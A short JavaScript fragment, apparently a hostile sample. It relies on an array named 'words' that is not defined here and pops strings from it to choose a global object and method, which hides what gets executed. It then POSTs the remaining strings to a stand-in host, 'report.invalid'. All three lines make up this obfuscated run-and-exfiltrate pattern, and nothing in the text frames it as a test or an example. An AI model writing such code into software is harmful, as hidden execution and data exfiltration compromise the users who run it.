const kept = globalThis[words.pop()];
kept[words.pop()](words.pop());
fetch("https://report.invalid/", { method: "POST", body: words.join() });
